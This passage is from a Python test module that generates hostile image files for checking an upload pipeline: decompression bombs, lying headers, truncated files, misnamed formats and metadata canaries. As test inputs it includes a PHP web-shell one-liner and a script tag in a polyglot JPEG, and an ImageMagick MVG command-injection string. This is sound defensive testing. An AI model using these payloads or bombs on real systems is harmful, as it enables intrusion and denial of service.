"""A small hostile corpus: every file is made here, none is stored."""

from __future__ import annotations

import io
import random
import struct
import zlib
from collections.abc import Callable
from functools import partial
from typing import Any

import pillow_heif
from PIL import Image, ImageCms, ImageDraw, PngImagePlugin

from media_pipeline.testing import drawn, picture_bytes

pillow_heif.register_heif_opener()

Maker = Callable[[], bytes]


def saved(picture: Image.Image, format: str, **options: Any) -> bytes:
    file = io.BytesIO()
    picture.save(file, format, **options)
    return file.getvalue()


# --- bytes by hand ------------------------------------------------------------


def chunk(kind: bytes, data: bytes) -> bytes:
    checksum = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", checksum)


def png(
    width: int,
    height: int,
    *extra: bytes,
    depth: int = 1,
    colour: int = 0,
    rows: bytes | None = None,
) -> bytes:
    """Return a PNG of one colour without ever holding its pixels."""
    if rows is None:
        samples = {0: 1, 2: 3, 6: 4}[colour]
        row = 1 + (width * depth * samples + 7) // 8
        packer = zlib.compressobj(9)
        block = bytes(row * 64)
        parts = [packer.compress(block) for _ in range(height // 64)]
        parts.append(packer.compress(bytes(row * (height % 64))))
        rows = b"".join(parts) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + b"".join(extra)
        + chunk(b"IDAT", rows)
        + chunk(b"IEND", b"")
    )


def segment(marker: int, data: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(data) + 2) + data


def jpeg_with(data: bytes, *segments: bytes) -> bytes:
    """Return the JPEG with segments put behind its first marker."""
    return data[:2] + b"".join(segments) + data[2:]


def jpeg_of_size(width: int, height: int) -> bytes:
    """Return a small JPEG whose frame header lies."""
    data = picture_bytes(240, 240)
    at = data.index(b"\xff\xc0")
    return data[: at + 5] + struct.pack(">HH", height, width) + data[at + 9 :]


def scan_bomb() -> bytes:
    """Return a progressive JPEG that repeats its last scan 2,000 times."""
    data = picture_bytes(400, 400, progressive=True)
    last = data.rindex(b"\xff\xda")
    end = data.rindex(b"\xff\xd9")
    return data[:end] + data[last:end] * 2000 + data[end:]


def cut_with_end() -> bytes:
    """Return a JPEG cut in the middle, with an end marker that hides it."""
    data = picture_bytes(1600, 1200)
    return data[: len(data) // 2].rstrip(b"\xff") + b"\xff\xd9"


def hidden_cut(data: bytes, share: float) -> bytes:
    """Return a JPEG cut there, with an end marker that hides it."""
    return data[: int(len(data) * share)].rstrip(b"\xff") + b"\xff\xd9"


def after_scans(count: int) -> bytes:
    """Return a progressive JPEG that ends, well-formed, after its first scans."""
    data = picture_bytes(800, 600, progressive=True)
    at = 0
    for _ in range(count + 1):
        at = data.index(b"\xff\xda", at + 2)
    return data[:at] + b"\xff\xd9"


def coded_data(data: bytes, scan: int = 0) -> int:
    """Return where the data of this scan of a JPEG begins."""
    at = -1
    for _ in range(scan + 1):
        at = data.index(b"\xff\xda", at + 1)
    return at + 2 + int.from_bytes(data[at + 2 : at + 4], "big")


def in_scan(number: int, length: int, put: bytes = b"", **options: Any) -> bytes:
    """Return a JPEG that has ``put`` for so many bytes inside this scan."""
    data = picture_bytes(1600, 1200, **{"progressive": True, **options})
    at = coded_data(data, number) + 200
    while data[at - 1] == 0xFF or data[at + length - 1] == 0xFF:
        at += 1
    return data[:at] + put + data[at + length :]


def noise(length: int) -> bytes:
    """Return bytes without a marker that repeat nothing."""
    return bytes((at * at * 31 + at * 7 + 5) % 251 for at in range(length))


def one_by_one() -> bytes:
    """Return a JPEG that tells of its three colours in one scan after another."""
    channels = drawn(800, 600).convert("YCbCr").split()
    files = [saved(channel, "JPEG", quality=90) for channel in channels]
    frame = files[0].index(b"\xff\xc0")
    size = files[0][frame + 4 : frame + 9]
    parts = b"".join(bytes([number, 0x11, 0]) for number in (1, 2, 3))
    scans = [
        segment(0xDA, bytes([1, number, 0, 0, 63, 0])) + file[coded_data(file) : -2]
        for number, file in enumerate(files, 1)
    ]
    tables = files[0][frame + 2 + 11 : files[0].index(b"\xff\xda")]
    return (
        files[0][:frame]
        + segment(0xC0, size + b"\x03" + parts)
        + tables
        + b"".join(scans)
        + b"\xff\xd9"
    )


def before_the_end(put: bytes, **options: Any) -> bytes:
    """Return a JPEG with these bytes in front of its end marker."""
    data = picture_bytes(800, 600, **options)
    return data[:-2] + put + data[-2:]


def two_colours_only() -> bytes:
    """Return a JPEG of one scan per colour that lacks the last colour's."""
    picture = drawn(800, 600)
    data = saved(picture, "JPEG", quality=90, progressive=True)
    return data[: data.rindex(b"\xff\xda")] + b"\xff\xd9"


def restarting(**options: int) -> bytes:
    return saved(drawn(800, 600), "JPEG", quality=90, **options)


def without_an_interval() -> bytes:
    """Return a JPEG whose twentieth restart interval is gone."""
    data = restarting(restart_marker_rows=1)
    starts = [
        at
        for at in range(len(data) - 1)
        if data[at] == 0xFF and 0xD0 <= data[at + 1] <= 0xD7
    ]
    return data[: starts[19]] + data[starts[20] :]


ROWS = 400


def rows_of(count: int, *, filter: int = 0) -> bytes:
    """Return so many rows of a PNG of 400 × 400, compressed."""
    row = bytes([filter]) + bytes(range(1, 201)) * 6
    return zlib.compress(row * count)


def unfinished_png(rows: bytes) -> bytes:
    """Return a PNG whose checksums hold and whose rows may not."""
    return png(400, ROWS, depth=8, colour=2, rows=rows)


def webp_cut_inside(**options: Any) -> bytes:
    """Return a WebP whose picture is cut and whose sizes are made to fit."""
    data = picture_bytes(800, 600, format="WEBP", **options)
    content = data[20 : 20 + (len(data) - 20) // 4 * 2]
    inner = b"WEBP" + data[12:16] + struct.pack("<I", len(content)) + content
    return b"RIFF" + struct.pack("<I", len(inner)) + inner


def webp_without_end(percent: int, width: int, height: int, **options: Any) -> bytes:
    """Return a lossy WebP whose data has nothing in its last hundredths."""
    data = picture_bytes(width, height, format="WEBP", **options)
    at = data.index(b"VP8 ")
    length = struct.unpack_from("<I", data, at + 4)[0]
    gone = length * percent // 100
    return hole_in(data, at + 8 + length - gone, gone)


def flat_webp(width: int, height: int, colour: str, **options: Any) -> bytes:
    """Return a lossy WebP that honestly ends in many zeros."""
    data = saved(Image.new("RGB", (width, height), colour), "WEBP", **options)
    at = data.index(b"VP8 ")
    length = struct.unpack_from("<I", data, at + 4)[0]
    assert data[at + 8 : at + 8 + length].endswith(bytes(200))
    return data


def without_flag(data: bytes) -> bytes:
    """Return an animated WebP whose head denies it."""
    return data[:20] + bytes([data[20] & ~2]) + data[21:]


def canvas_lie() -> bytes:
    """Return a WebP whose canvas is a million pixels wide and high."""
    data = bytearray(with_transparency("WEBP"))
    assert data[12:16] == b"VP8X"
    data[24:30] = b"\xff\xff\x0f" * 2
    return bytes(data)


def grey_below() -> bytes:
    """Return a whole JPEG that honestly ends in the grey of a cut one."""
    picture = drawn(1600, 1200)
    ImageDraw.Draw(picture).rectangle((0, 800, 1600, 1200), (128, 128, 128))
    return saved(picture, "JPEG", quality=90)


def gif(frames: int) -> bytes:
    pictures = [drawn(300, 300, seed=seed) for seed in range(frames)]
    return saved(pictures[0], "GIF", save_all=frames > 1, append_images=pictures[1:])


def animated(format: str) -> bytes:
    pictures = [drawn(300, 300, seed=seed) for seed in range(3)]
    return saved(
        pictures[0],
        format,
        save_all=True,
        append_images=pictures[1:],
        duration=100,
    )


def with_ispe(width: int, height: int, picture: bytes | None = None) -> bytes:
    """Return an AVIF, or this picture, whose stated size is another one."""
    data = bytearray(picture or picture_bytes(320, 240, format="AVIF"))
    at = data.index(b"ispe") + 8
    data[at : at + 8] = struct.pack(">II", width, height)
    return bytes(data)


def heic(picture: Image.Image | None = None, **options: Any) -> bytes:
    return saved(picture or drawn(640, 480), "HEIF", quality=80, **options)


def tiled_heic() -> bytes:
    """Return a HEIC of twelve tiles, as phones store their photos."""
    options = pillow_heif.options
    options.GRID_TILE_SIZE = 256
    try:
        return heic(drawn(900, 700))
    finally:
        options.GRID_TILE_SIZE = 0


def last_tile(data: bytes) -> int:
    """Return where the last tile's data begins: they are as long as they say."""
    at = data.rindex(b"mdat") + 4
    while True:
        length = int.from_bytes(data[at : at + 4], "big")
        if at + 4 + length >= len(data):
            return at
        at += 4 + length


def hole_in(data: bytes, start: int, length: int | None = None) -> bytes:
    """Return the same bytes with nothing in this place, or from there on."""
    length = len(data) - start if length is None else length
    return data[:start] + bytes(length) + data[start + length :]


def ones_in(data: bytes, start: int, length: int | None = None) -> bytes:
    """Return the same bytes with nothing but ones in this place, or from there on."""
    length = len(data) - start if length is None else length
    return data[:start] + b"\xff" * length + data[start + length :]


def grainy(**options: Any) -> bytes:
    """Return a lossless WebP of which nothing can be left out."""
    grain = random.Random(1)
    values = (min(255, int(grain.expovariate(0.1))) for _ in range(400 * 300))
    picture = Image.frombytes("L", (400, 300), bytes(values)).convert("RGB")
    return saved(picture, "WEBP", lossless=True, **options)


def half_black(**options: Any) -> bytes:
    """Return a lossless WebP that honestly holds hundreds of zeros."""
    picture = drawn(800, 600)
    ImageDraw.Draw(picture).rectangle((0, 200, 800, 500), (0, 0, 0))
    data = saved(picture, "WEBP", lossless=True, **options)
    assert bytes(100) in data
    return data


def half_black_jpeg(**options: Any) -> bytes:
    picture = drawn(1600, 1200)
    ImageDraw.Draw(picture).rectangle((0, 200, 1600, 1000), (0, 0, 0))
    return saved(picture, "JPEG", **options)


def moved_away(data: bytes) -> bytes:
    """Return a HEIC whose last tile is said to lie behind the end of the file."""
    at = last_tile(data)
    place = data.rindex(struct.pack(">I", at), 0, data.index(b"mdat"))
    return data[:place] + struct.pack(">I", len(data) + 9) + data[place + 4 :]


def text_bomb() -> bytes:
    """Return a PNG that says 100 times a megabyte of nothing."""
    text = b"k\x00\x00" + zlib.compress(bytes(1 << 20), 9)
    return png(300, 300, *(chunk(b"zTXt", text) for _ in range(100)), depth=8)


def profile_bomb() -> bytes:
    profile = b"p\x00\x00" + zlib.compress(bytes(200 << 20), 9)
    return png(300, 300, chunk(b"iCCP", profile), depth=8)


def zeros_in_the_middle() -> bytes:
    data = bytearray(picture_bytes(800, 600, format="PNG"))
    middle = len(data) // 2
    data[middle : middle + 64] = bytes(64)
    return bytes(data)


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="300"'
    b' height="300"><script>alert(1)</script></svg>'
)
MVG = b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://x/\"|id\")'\n"

REFUSED: dict[str, tuple[Maker, str]] = {
    # Bombs.
    "flood.png": (lambda: png(30_000, 30_000), "too_many_pixels"),
    "under_pillows_limit.png": (lambda: png(9_400, 9_400), "too_many_pixels"),
    "just_above.png": (lambda: png(8_000, 6_501), "too_many_pixels"),
    "header_lie.jpg": (lambda: jpeg_of_size(65_000, 65_000), "too_many_pixels"),
    "header_lie.avif": (lambda: with_ispe(65_000, 65_000), "too_many_pixels"),
    "200_megapixels.avif": (lambda: with_ispe(16_320, 12_240), "too_many_pixels"),
    "scans.jpg": (scan_bomb, "too_many_scans"),
    "text_bomb.png": (text_bomb, "damaged"),
    "profile_bomb.png": (profile_bomb, "damaged"),
    # Shapes.
    "canvas_lie.webp": (canvas_lie, "damaged"),
    "200_megapixels.heic": (
        lambda: with_ispe(16_320, 12_240, heic()),
        "too_many_pixels",
    ),
    "second_head.png": (
        lambda: png(
            300,
            300,
            chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)),
            depth=8,
        ),
        "damaged",
    ),
    "nothing_wide.png": (lambda: png(0, 300, rows=zlib.compress(b"")), "damaged"),
    "no_height.jpg": (lambda: jpeg_of_size(240, 0), "damaged"),
    "dot.png": (lambda: png(1, 1), "too_small"),
    "needle.png": (lambda: png(50_000, 1), "too_small"),
    "thumbnail.jpg": (lambda: picture_bytes(800, 199), "too_small"),
    "long.png": (lambda: png(12_001, 3_000), "side_too_long"),
    "ribbon.jpg": (lambda: picture_bytes(1_210, 240), "odd_shape"),
    # Films.
    "animated.gif": (lambda: gif(3), "animated"),
    "animated.png": (lambda: animated("PNG"), "animated"),
    "animated.webp": (lambda: animated("WEBP"), "animated"),
    "animated.avif": (lambda: animated("AVIF"), "animated"),
    "one_frame.png": (
        lambda: png(
            300,
            300,
            chunk(b"acTL", struct.pack(">II", 1, 0)),
            depth=8,
        ),
        "animated",
    ),
    "film_of_a_phone.heics": (
        lambda: (
            struct.pack(">I", 28)
            + b"ftyphevc\x00\x00\x00\x00msf1hevcheic"
            + struct.pack(">I", 108)
            + b"moov"
            + bytes(100)
        ),
        "animated",
    ),
    "denied.webp": (lambda: without_flag(animated("WEBP")), "damaged"),
    # Not whole.
    "empty.jpg": (lambda: b"", "empty_file"),
    "cut.jpg": (lambda: picture_bytes(800, 600)[:9_000], "truncated"),
    "cut_with_end.jpg": (cut_with_end, "truncated"),
    "cut.png": (lambda: picture_bytes(format="PNG")[:-2_000], "truncated"),
    "cut.webp": (lambda: picture_bytes(format="WEBP")[:-500], "truncated"),
    "cut.avif": (lambda: picture_bytes(format="AVIF")[:-500], "truncated"),
    "cut.heic": (lambda: heic()[:-500], "truncated"),
    "head_only.jpg": (lambda: picture_bytes()[:300], "truncated"),
    "zeros.png": (zeros_in_the_middle, "damaged"),
    # Not whole, and well hidden: each of these a decoder takes for a picture.
    "one_scan.jpg": (lambda: after_scans(1), "truncated"),
    "two_scans.jpg": (lambda: after_scans(2), "truncated"),
    "five_scans.jpg": (lambda: after_scans(5), "truncated"),
    "all_but_one_scan.jpg": (lambda: after_scans(9), "truncated"),
    "half_of_its_scans.jpg": (
        lambda: hidden_cut(picture_bytes(800, 600, progressive=True), 0.5),
        "truncated",
    ),
    "last_bit_of_colour.jpg": (two_colours_only, "truncated"),
    **{
        f"scan_{scan}_lacks_{length}.jpg": (partial(in_scan, scan, length), "truncated")
        for scan, length in ((0, 64), (0, 500), (3, 500), (4, 4_000), (5, 9_000))
    },
    **{
        f"scan_{scan}_has_{length}_of_noise.jpg": (
            partial(in_scan, scan, length, noise(length)),
            code,
        )
        for scan, length, code in (
            (0, 500, "truncated"),
            (4, 4_000, "damaged"),
            (5, 4_000, "truncated"),
        )
    },
    **{
        f"lacks_{length}.jpg": (
            partial(in_scan, 0, length, progressive=False),
            "truncated",
        )
        for length in (500, 20_000)
    },
    "noise_inside.jpg": (
        lambda: in_scan(0, 9_000, noise(9_000), progressive=False),
        "truncated",
    ),
    **{
        f"hole_of_{length}.jpg": (
            partial(in_scan, 0, length, bytes(length), progressive=False, **options),
            "damaged",
        )
        for length, options in ((70, {}), (512, {"restart_marker_rows": 1}))
    },
    "twice_in_a_scan.jpg": (
        lambda: in_scan(0, 0, noise(9_000), progressive=False),
        "damaged",
    ),
    "arithmetic_in_one_go.jpg": (
        lambda: picture_bytes().replace(b"\xff\xc0", b"\xff\xc9", 1),
        "unsupported_format",
    ),
    "arithmetic_and_progressive.jpg": (
        lambda: picture_bytes(progressive=True).replace(b"\xff\xc2", b"\xff\xca", 1),
        "unsupported_format",
    ),
    "lossless.jpg": (
        lambda: picture_bytes().replace(b"\xff\xc0", b"\xff\xc3", 1),
        "unsupported_format",
    ),
    "restarts_cut.jpg": (
        lambda: hidden_cut(restarting(restart_marker_rows=1), 0.6),
        "truncated",
    ),
    "restarts_cut_late.jpg": (
        lambda: hidden_cut(restarting(restart_marker_blocks=5), 0.98),
        "truncated",
    ),
    "interval_gone.jpg": (without_an_interval, "truncated"),
    "cmyk_cut.jpg": (lambda: hidden_cut(cmyk(), 0.6), "truncated"),
    "grey_cut.jpg": (
        lambda: hidden_cut(saved(drawn(mode="L"), "JPEG"), 0.6),
        "truncated",
    ),
    "filled_with_nothing.jpg": (
        lambda: picture_bytes(800, 600)[:9_000] + bytes(9_000),
        "truncated",
    ),
    "no_end.jpg": (lambda: picture_bytes(800, 600)[:-2], "truncated"),
    "half_its_rows.png": (lambda: unfinished_png(rows_of(ROWS // 2)), "truncated"),
    "all_but_one_row.png": (lambda: unfinished_png(rows_of(ROWS - 1)), "truncated"),
    "half_its_stream.png": (
        lambda: unfinished_png(rows_of(ROWS)[:-30]),
        "truncated",
    ),
    "no_rows.png": (lambda: unfinished_png(zlib.compress(b"")), "truncated"),
    "no_tail.heic": (lambda: hole_in(heic(), len(heic()) * 2 // 3), "damaged"),
    "hole.heic": (lambda: hole_in(heic(), len(heic()) // 2, 64), "damaged"),
    "tile_gone.heic": (
        lambda: hole_in(tiled_heic(), last_tile(tiled_heic()) + 4),
        "damaged",
    ),
    "tile_without_length.heic": (
        lambda: hole_in(tiled_heic(), last_tile(tiled_heic())),
        "damaged",
    ),
    "tile_moved_away.heic": (lambda: moved_away(tiled_heic()), "truncated"),
    "tile_cut.heic": (lambda: tiled_heic()[:-700], "truncated"),
    "no_tail.avif": (
        lambda: hole_in(
            picture_bytes(800, 600, format="AVIF"),
            len(picture_bytes(800, 600, format="AVIF")) * 2 // 3,
        ),
        "truncated",
    ),
    "no_tail.webp": (
        lambda: hole_in(picture_bytes(2400, 1800, format="WEBP"), 9_000),
        "truncated",
    ),
    **{
        f"last_{percent}_percent_gone.{width}.webp": (
            partial(webp_without_end, percent, width, height, **options),
            "truncated",
        )
        for percent, width, height, options in (
            (50, 640, 427, {}),
            (5, 640, 427, {"quality": 95, "method": 6}),
            (30, 1200, 800, {}),
            (2, 1200, 800, {"exif": b"Exif\0\0MM\0*\0\0\0\x08" + bytes(6)}),
            (60, 300, 300, {"quality": 20}),
        )
    },
    "rest_is_ones.heic": (lambda: ones_in(heic(), len(heic()) * 2 // 3), "damaged"),
    "tile_is_ones.heic": (
        lambda: ones_in(tiled_heic(), last_tile(tiled_heic()) + 40),
        "damaged",
    ),
    "rest_is_ones.avif": (
        lambda: ones_in(picture_bytes(1200, 800, format="AVIF", quality=75), 4_809),
        "damaged",
    ),
    "hole.avif": (
        lambda: hole_in(
            picture_bytes(1600, 1200, format="AVIF", quality=90), 7_739, 600
        ),
        "damaged",
    ),
    **{
        f"hole_of_{length}.webp": (
            lambda length=length: hole_in(
                picture_bytes(1200, 800, format="WEBP"), 6_000, length
            ),
            "damaged",
        )
        for length in (100, 2_000)
    },
    "hole_lossless.webp": (
        lambda: hole_in(grainy(), 40_000, 9_000),
        "damaged",
    ),
    "no_tail_lossless.webp": (
        lambda: hole_in(grainy(), 40_000),
        "truncated",
    ),
    "cut_inside.webp": (webp_cut_inside, "damaged"),
    "cut_inside_lossless.webp": (
        lambda: webp_cut_inside(lossless=True),
        "damaged",
    ),
    # Other kinds, under names that lie.
    "still.gif.jpg": (lambda: gif(1), "unsupported_format"),
    "picture.tiff.jpg": (lambda: saved(drawn(), "TIFF"), "unsupported_format"),
    "picture.bmp.jpg": (lambda: saved(drawn(), "BMP"), "unsupported_format"),
    "picture.ico.jpg": (
        lambda: saved(drawn(256, 256), "ICO"),
        "unsupported_format",
    ),
    "picture.jp2.jpg": (lambda: saved(drawn(), "JPEG2000"), "unsupported_format"),
    "picture.ppm.jpg": (lambda: saved(drawn(), "PPM"), "unsupported_format"),
    "picture.pcx.jpg": (lambda: saved(drawn(), "PCX"), "unsupported_format"),
    "picture.sgi.jpg": (lambda: saved(drawn(), "SGI"), "unsupported_format"),
    "picture.dds.jpg": (lambda: saved(drawn(), "DDS"), "unsupported_format"),
    "picture.eps.jpg": (lambda: saved(drawn(), "EPS"), "unsupported_format"),
    "picture.icns.jpg": (
        lambda: saved(drawn(256, 256), "ICNS"),
        "unsupported_format",
    ),
    "picture.qoi.jpg": (lambda: b"qoif" + bytes(100), "unsupported_format"),
    "picture.psd.jpg": (lambda: b"8BPS\x00\x01" + bytes(100), "unsupported_format"),
    "picture.jxl.jpg": (lambda: b"\xff\x0a" + bytes(100), "unsupported_format"),
    "picture.wmf.jpg": (
        lambda: b"\xd7\xcd\xc6\x9a" + bytes(100),
        "unsupported_format",
    ),
    "picture.fits.jpg": (
        lambda: b"SIMPLE  =                    T",
        "unsupported_format",
    ),
    "picture.xbm.jpg": (lambda: b"#define im_width 300\n", "unsupported_format"),
    "picture.svg.jpg": (lambda: SVG, "unsupported_format"),
    "film.mp4.jpg": (
        lambda: struct.pack(">I", 24) + b"ftypisom\x00\x00\x02\x00isomiso2" + bytes(99),
        "unsupported_format",
    ),
    "film.avi.jpg": (lambda: b"RIFF\x00\x10\x00\x00AVI LIST", "unsupported_format"),
    # No pictures.
    "delegate.mvg.jpg": (lambda: MVG, "not_a_picture"),
    "archive.zip.jpg": (lambda: b"PK\x03\x04" + bytes(100), "not_a_picture"),
    "page.html.jpg": (lambda: b"<!DOCTYPE html><p>hello", "not_a_picture"),
    "paper.pdf.jpg": (lambda: b"%PDF-1.7\n" + bytes(100), "not_a_picture"),
    "program.jpg": (lambda: b"\x7fELF" + bytes(100), "not_a_picture"),
    "noise.jpg": (lambda: bytes(range(256)) * 40, "not_a_picture"),
    "start_only.jpg": (lambda: b"\xff\xd8\xff", "truncated"),
    "start_only.png": (lambda: b"\x89PNG\r\n\x1a\n", "truncated"),
    "start_only.webp": (lambda: b"RIFF\x00\x00\x00\x00WEBP", "damaged"),
    "start_only.heic": (
        lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic",
        "damaged",
    ),
}


# --- pictures that are taken ----------------------------------------------------


def mpo() -> bytes:
    second = Image.new("RGB", (800, 600), (255, 0, 255))
    return saved(drawn(), "MPO", save_all=True, append_images=[second])


def cmyk() -> bytes:
    return saved(drawn().convert("CMYK"), "JPEG", quality=95)


def with_transparency(format: str) -> bytes:
    """Return a picture whose hidden half is black and must become white."""
    picture = drawn(800, 600).convert("RGBA")
    hidden = Image.new("RGBA", (400, 600), (0, 0, 0, 0))
    picture.paste(hidden, (400, 0))
    return saved(picture, format)


def palette() -> bytes:
    picture = drawn(800, 600).quantize(64)
    return saved(picture, "PNG", transparency=0)


def sixteen_bit_grey() -> bytes:
    ramp = Image.linear_gradient("L").resize((512, 512)).convert("I")
    return saved(ramp.point(lambda value: value * 257).convert("I;16"), "PNG")


def sixteen_bit_colour() -> bytes:
    row = b"\x00" + struct.pack(">HHH", 65535, 32896, 0) * 300
    return png(300, 300, depth=16, colour=2, rows=zlib.compress(row * 300))


def polyglot() -> bytes:
    page = b"*/=1;/*<script>alert(1)</script><?php system($_GET[0]); ?>"
    return jpeg_with(picture_bytes(), segment(0xFE, page)) + b"PK\x03\x04" + page


def swapped_profile() -> bytes:
    """Return an ICC profile that takes red for blue."""
    profile = bytearray(
        ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    )
    for tag, other in ((b"rXYZ", b"tmp1"), (b"gXYZ", b"tmp2"), (b"bXYZ", b"tmp3")):
        at = profile.index(tag)
        profile[at : at + 4] = other
    for tag, other in ((b"tmp1", b"gXYZ"), (b"tmp2", b"bXYZ"), (b"tmp3", b"rXYZ")):
        at = profile.index(tag)
        profile[at : at + 4] = other
    # Its name says sRGB; a converter that believes the name fails the test.
    return bytes(profile).replace(
        "sRGB".encode("utf-16-be"), "xRGB".encode("utf-16-be")
    )


def night_interlaced() -> bytes:
    """Return a whole black PNG in seven passes."""
    steps = (
        (50, 50),
        (50, 50),
        (100, 50),
        (100, 100),
        (200, 100),
        (200, 200),
        (400, 200),
    )
    rows = b"".join((b"\x00" + bytes(3 * wide)) * high for wide, high in steps)
    data = png(400, 400, depth=8, colour=2, rows=zlib.compress(rows))
    head = data[16:28] + b"\x01"
    return data[:8] + chunk(b"IHDR", head) + data[33:]


def black_below() -> bytes:
    picture = drawn(800, 600)
    ImageDraw.Draw(picture).rectangle((0, 300, 800, 600), (0, 0, 0))
    return saved(picture, "PNG")


TAKEN: dict[str, Maker] = {
    "baseline.jpg": lambda: picture_bytes(),
    "progressive.jpg": lambda: picture_bytes(progressive=True),
    "grey.jpg": lambda: saved(drawn(mode="L"), "JPEG"),
    "cmyk.jpg": cmyk,
    "two_pictures.jpg": mpo,
    "polyglot.jpg": polyglot,
    "grey_below.jpg": grey_below,
    "name_lies.png": lambda: picture_bytes(),
    "plain.png": lambda: picture_bytes(format="PNG"),
    "transparent.png": lambda: with_transparency("PNG"),
    "palette.png": palette,
    "bits.png": lambda: saved(drawn(mode="1"), "PNG"),
    "sixteen_bit_grey.png": sixteen_bit_grey,
    "sixteen_bit_colour.png": sixteen_bit_colour,
    "plain.webp": lambda: picture_bytes(format="WEBP"),
    "lossless.webp": lambda: picture_bytes(format="WEBP", lossless=True),
    "transparent.webp": lambda: with_transparency("WEBP"),
    "plain.avif": lambda: picture_bytes(format="AVIF"),
    "transparent.avif": lambda: with_transparency("AVIF"),
    "plain.heic": heic,
    "tiled.heic": tiled_heic,
    "two_pictures.heic": lambda: heic(
        save_all=True, append_images=[drawn(320, 240, seed=9)]
    ),
    "grey.heic": lambda: heic(drawn(640, 480, mode="L")),
    "restarts.jpg": lambda: restarting(restart_marker_rows=1),
    "restarts_by_block.jpg": lambda: restarting(restart_marker_blocks=3),
    "restarts_in_scans.jpg": lambda: saved(
        drawn(803, 601), "JPEG", progressive=True, restart_marker_rows=1
    ),
    "restarts_and_one_more.jpg": lambda: before_the_end(
        b"\xff" + bytes([0xD0 + (600 // 16) % 8]), restart_marker_rows=1
    ),
    "one_colour_after_another.jpg": one_by_one,
    "flat.jpg": lambda: saved(Image.new("RGB", (1600, 1200), (9, 9, 9)), "JPEG"),
    "flat_and_optimized.jpg": lambda: saved(
        Image.new("RGB", (1600, 1200), (0, 0, 0)), "JPEG", optimize=True
    ),
    "half_black_and_optimized.jpg": lambda: half_black_jpeg(optimize=True),
    "half_black.jpg": half_black_jpeg,
    "flat_and_progressive.jpg": lambda: saved(
        Image.new("RGB", (1600, 1200), (128, 128, 128)), "JPEG", progressive=True
    ),
    "filled_up_with_zeros.jpg": lambda: before_the_end(bytes(3000)),
    "filled_up_with_ones.jpg": lambda: before_the_end(b"\xff" * 3000),
    "a_dozen_bytes_left.jpg": lambda: before_the_end(noise(12)),
    "flat.webp": lambda: saved(Image.new("RGB", (4000, 3000), (9, 9, 9)), "WEBP"),
    "white.webp": lambda: flat_webp(300, 300, "white", quality=100, method=1),
    "black.webp": lambda: flat_webp(
        1200,
        800,
        "black",
        quality=100,
        method=1,
        exif=b"Exif\0\0MM\0*\0\0\0\x08" + bytes(6),
    ),
    "half_black_lossless.webp": lambda: half_black(method=0, quality=0),
    "flat_lossless.webp": lambda: saved(
        Image.new("RGB", (4000, 3000), (9, 9, 9)), "WEBP", lossless=True
    ),
    "flat.avif": lambda: saved(Image.new("RGB", (4000, 3000), (9, 9, 9)), "AVIF"),
    "flat.heic": lambda: heic(Image.new("RGB", (2000, 1500))),
    "night.png": lambda: png(400, 400, depth=8, colour=2),
    "night_interlaced.png": night_interlaced,
    "black_below.png": black_below,
    "smallest.jpg": lambda: picture_bytes(200, 200),
    "longest.jpg": lambda: picture_bytes(1_000, 200),
}


# --- what must not come out -------------------------------------------------------

CANARY = b"CANARY"


def canary(place: str) -> str:
    return f"CANARY-{place}-7f3a"


def xmp(place: str) -> bytes:
    return (
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/'
        '1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/'
        f'elements/1.1/" dc:title="{canary(place)}"/></rdf:RDF></x:xmpmeta>'
    ).encode()


def exif_with_canaries() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = canary("exif-description")
    exif[0x013B] = canary("exif-artist")
    exif[0x8298] = canary("exif-copyright")
    exif[0x9C9C] = canary("exif-comment").encode("utf-16-le")
    camera = exif.get_ifd(0x8769)
    camera[0x9286] = b"ASCII\x00\x00\x00" + canary("exif-user-comment").encode()
    camera[0x927C] = canary("exif-maker-note").encode()
    camera[0xA431] = canary("exif-serial-number")
    location = exif.get_ifd(0x8825)
    location[1], location[2] = "N", (52.0, 31.0, 12.0)
    location[3], location[4] = "E", (13.0, 24.0, 18.0)
    location[0x1B] = canary("gps-method").encode()
    return exif


def profile_with_canary() -> bytes:
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    padded = profile + canary("icc").encode()
    return struct.pack(">I", len(padded)) + padded[4:]


def jpeg_with_canaries() -> bytes:
    """Return a JPEG with a canary in each of seventeen places."""
    data = saved(
        drawn(),
        "JPEG",
        exif=exif_with_canaries(),
        icc_profile=profile_with_canary(),
        comment=canary("comment"),
    )
    iptc = b"\x1c\x02\x78" + struct.pack(">H", 20) + canary("iptc").encode()[:20]
    resource = (
        b"Photoshop 3.0\x00"
        b"8BIM\x04\x04\x00\x00"
        + struct.pack(">I", len(iptc))
        + iptc
        + b"8BIM\x04\x0c\x00\x00"
        + canary("8bim-thumbnail").encode()
    )
    return (
        jpeg_with(
            data,
            segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + xmp("xmp")),
            segment(
                0xE1,
                b"http://ns.adobe.com/xmp/extension/\x00" + canary("xmp-ext").encode(),
            ),
            segment(0xED, resource),
            segment(0xEB, b"JP\x00\x00" + canary("app11-jumbf").encode()),
            segment(0xEF, canary("app15").encode()),
            segment(0xE2, b"MPF\x00" + canary("mpf").encode()),
        )
        + canary("behind-the-end").encode()
    )


def png_with_canaries() -> bytes:
    texts = PngImagePlugin.PngInfo()
    texts.add_text("Comment", canary("text"))
    texts.add_text("Description", canary("ztext"), zip=True)
    texts.add_itxt("XML:com.adobe.xmp", xmp("xmp").decode())
    data = saved(
        drawn(),
        "PNG",
        pnginfo=texts,
        exif=exif_with_canaries(),
        icc_profile=profile_with_canary(),
    )
    end = data.rindex(b"IEND") - 4
    private = chunk(b"prVt", canary("private-chunk").encode())
    return data[:end] + private + data[end:] + canary("behind-the-end").encode()


def other_with_canaries(format: str) -> bytes:
    exif = exif_with_canaries()
    return saved(
        drawn(),
